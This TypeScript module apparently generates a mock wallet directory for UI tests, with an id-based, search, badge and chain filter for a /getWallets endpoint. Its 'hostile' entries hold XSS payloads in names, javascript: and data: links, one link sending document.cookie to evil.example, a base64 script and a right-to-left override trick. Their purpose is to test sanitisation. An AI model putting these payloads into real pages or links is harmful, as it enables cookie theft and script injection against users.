import { createHash } from 'node:crypto';
import type { WalletEntry } from './types';

/** How the image of a directory entry is drawn. */
export type WalletImageKind = 'svg' | 'huge' | 'broken';

/** The directory and the kind of image behind each `image_id`. */
export interface Directory {
  entries: WalletEntry[];
  images: Map<string, { kind: WalletImageKind; label: string }>;
}

/** Stable 64-hex id, in the style of the real directory's ids. */
function hexId(seed: string): string {
  return createHash('sha256').update(`latchkey-directory:${seed}`).digest('hex');
}

/** Stable UUID-shaped image id, in the style of the real image ids. */
function imageId(seed: string): string {
  const hex = createHash('sha256').update(`latchkey-image:${seed}`).digest('hex');
  return `${hex.slice(0, 8)}-${hex.slice(8, 12)}-${hex.slice(12, 16)}-${hex.slice(16, 20)}-${hex.slice(20, 32)}`;
}

/** Ids of the directory entries tests look for; stable across runs and instances. */
export const DIRECTORY_IDS = {
  devWallet: hexId('dev.latchkey.wallet'),
  secondWallet: hexId('dev.latchkey.second'),
  htmlName: hexId('hostile:html-name'),
  scriptName: hexId('hostile:script-name'),
  javascriptLinks: hexId('hostile:javascript-links'),
  dataLinks: hexId('hostile:data-links'),
  hugeImage: hexId('hostile:huge-image'),
  brokenImage: hexId('hostile:broken-image'),
  longName: hexId('hostile:long-name'),
} as const;

/** Chains the generated wallets claim, in CAIP-2 form (SPEC §1 namespaces). */
const CHAIN_SETS: readonly string[][] = [
  ['eip155:1', 'eip155:137', 'eip155:31337', 'eip155:31338'],
  ['eip155:1', 'eip155:10', 'eip155:42161', 'eip155:8453'],
  ['solana:5eykt4UsFv8P8NJdTREpY1vzqKqZKvdp'],
  ['eip155:1', 'solana:5eykt4UsFv8P8NJdTREpY1vzqKqZKvdp'],
  ['bip122:000000000019d6689c085ae165831e93'],
  ['polkadot:91b171bb158e2d3848fa23a9f1c25182'],
  ['cosmos:cosmoshub-4'],
  ['eip155:1', 'eip155:137', 'bip122:000000000019d6689c085ae165831e93', 'solana:5eykt4UsFv8P8NJdTREpY1vzqKqZKvdp'],
];

const LOCAL_EVM = ['eip155:31337', 'eip155:31338', 'eip155:1', 'eip155:137'];

const ADJECTIVES = [
  'Amber', 'Brisk', 'Cobalt', 'Dusky', 'Ember', 'Frost', 'Gilded', 'Hollow', 'Ivory', 'Jade',
  'Keen', 'Lunar', 'Misty', 'Noble', 'Onyx', 'Polar', 'Quiet', 'Rapid', 'Solar', 'Tidal',
  'Umber', 'Vivid', 'Willow', 'Xenon', 'Young', 'Zephyr',
];
const NOUNS = [
  'Anchor', 'Beacon', 'Cipher', 'Dock', 'Echo', 'Falcon', 'Garden', 'Harbor', 'Island', 'Jetty',
  'Kite', 'Lantern', 'Meadow', 'Nest', 'Orbit', 'Pillar', 'Quarry', 'River', 'Summit', 'Tower',
  'Union', 'Vault', 'Wharf', 'Yard', 'Zenith',
];

/** How many ordinary wallets follow the special ones; with them the directory passes 600. */
const GENERATED_COUNT = ADJECTIVES.length * NOUNS.length; // 650

/** Builds one ordinary entry from its words. */
function ordinaryEntry(index: number, adjective: string, noun: string): WalletEntry {
  const slug = `${adjective}${noun}`.toLowerCase();
  return {
    id: hexId(`generated:${slug}`),
    name: `${adjective} ${noun} Wallet`,
    image_id: imageId(`generated:${slug}`),
    rdns: index % 5 === 4 ? null : `com.${slug}.wallet`,
    chains: CHAIN_SETS[index % CHAIN_SETS.length]!,
    mobile_link: index % 3 === 2 ? null : `${slug}://`,
    desktop_link: index % 4 === 0 ? `${slug}-desktop://` : null,
    webapp_link: index % 6 === 1 ? `https://app.${slug}.example/` : null,
    homepage: `https://${slug}.example/`,
    badge_type: index % 7 === 0 ? 'certified' : 'none',
  };
}

/** A special entry: everything local-chain capable, the caller picks the rest. */
function special(seedKey: keyof typeof DIRECTORY_IDS, seed: string, fields: Partial<WalletEntry> & { name: string }): WalletEntry {
  return {
    id: DIRECTORY_IDS[seedKey],
    image_id: imageId(seed),
    rdns: null,
    chains: LOCAL_EVM,
    mobile_link: null,
    desktop_link: null,
    webapp_link: null,
    homepage: null,
    badge_type: 'none',
    ...fields,
  };
}

/**
 * Generates the wallet directory: the two Latchkey test wallets first, hostile entries inside
 * the first page (so a UI test meets them without searching), then 650 ordinary wallets.
 * Deterministic: the same entries, ids and order on every call.
 *
 * @example
 * const { entries } = generateDirectory();
 * entries[0].name; // 'Latchkey Dev Wallet'
 */
export function generateDirectory(): Directory {
  const specials: Array<{ entry: WalletEntry; image: WalletImageKind }> = [
    { image: 'svg', entry: special('devWallet', 'dev.latchkey.wallet', { name: 'Latchkey Dev Wallet', rdns: 'dev.latchkey.wallet', badge_type: 'certified', mobile_link: 'latchkey-dev://', homepage: 'http://127.0.0.1/' }) },
    { image: 'svg', entry: special('secondWallet', 'dev.latchkey.second', { name: 'Latchkey Second Wallet', rdns: 'dev.latchkey.second', badge_type: 'certified', mobile_link: 'latchkey-second://' }) },
    { image: 'svg', entry: special('htmlName', 'hostile:html-name', { name: '<img src=x onerror="alert(1)"><b>Bold</b> Wallet', rdns: 'dev.latchkey.hostile.html' }) },
    { image: 'svg', entry: special('scriptName', 'hostile:script-name', { name: '<script>alert("xss")</script>Script Wallet', rdns: 'dev.latchkey.hostile.script' }) },
    {
      image: 'svg',
      entry: special('javascriptLinks', 'hostile:javascript-links', {
        name: 'Javascript Link Wallet',
        mobile_link: 'javascript:alert(document.cookie)',
        desktop_link: 'JavaScript:alert(1)//',
        webapp_link: 'javascript:fetch("//evil.example/"+document.cookie)',
        homepage: 'javascript:alert(1)',
      }),
    },
    {
      image: 'svg',
      entry: special('dataLinks', 'hostile:data-links', {
        name: 'Data Link Wallet',
        mobile_link: 'data:text/html,<script>alert(1)</script>',
        desktop_link: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
        webapp_link: 'data:text/html,<h1>phish</h1>',
      }),
    },
    { image: 'huge', entry: special('hugeImage', 'hostile:huge-image', { name: 'Huge Image Wallet' }) },
    { image: 'broken', entry: special('brokenImage', 'hostile:broken-image', { name: 'Broken Image Wallet' }) },
    { image: 'svg', entry: special('longName', 'hostile:long-name', { name: `Very${'Long'.repeat(60)} \u202Eevil\u202C Wallet` }) },
  ];

  const entries: WalletEntry[] = specials.map((item) => item.entry);
  const images = new Map<string, { kind: WalletImageKind; label: string }>();
  for (const item of specials) images.set(item.entry.image_id, { kind: item.image, label: item.entry.name });

  let index = 0;
  for (const noun of NOUNS) {
    for (const adjective of ADJECTIVES) {
      const entry = ordinaryEntry(index, adjective, noun);
      entries.push(entry);
      images.set(entry.image_id, { kind: 'svg', label: entry.name });
      index += 1;
    }
  }
  if (index !== GENERATED_COUNT) throw new Error('directory generation is inconsistent');
  return { entries, images };
}

/** Filters of `/getWallets` (SPEC §7), already parsed. */
export interface DirectoryQuery {
  page: number;
  entries: number;
  search: string | null;
  badgeType: 'none' | 'certified' | null;
  include: string[];
  exclude: string[];
  chains: string[];
}

/**
 * Applies the `/getWallets` filters and paging: include and exclude by id, case-insensitive
 * search on the name, badge type, and chains (an entry matches if it supports any of them).
 *
 * @example
 * queryDirectory(generateDirectory().entries, { page: 1, entries: 40, search: 'latchkey', badgeType: null, include: [], exclude: [], chains: [] });
 */
export function queryDirectory(all: readonly WalletEntry[], query: DirectoryQuery): { data: WalletEntry[]; count: number } {
  const include = new Set(query.include);
  const exclude = new Set(query.exclude);
  const search = query.search?.toLowerCase() ?? null;
  const matching = all.filter(
    (entry) =>
      (include.size === 0 || include.has(entry.id)) &&
      !exclude.has(entry.id) &&
      (search === null || entry.name.toLowerCase().includes(search)) &&
      (query.badgeType === null || entry.badge_type === query.badgeType) &&
      (query.chains.length === 0 || entry.chains.some((chain) => query.chains.includes(chain))),
  );
  const start = (query.page - 1) * query.entries;
  return { data: matching.slice(start, start + query.entries), count: matching.length };
}
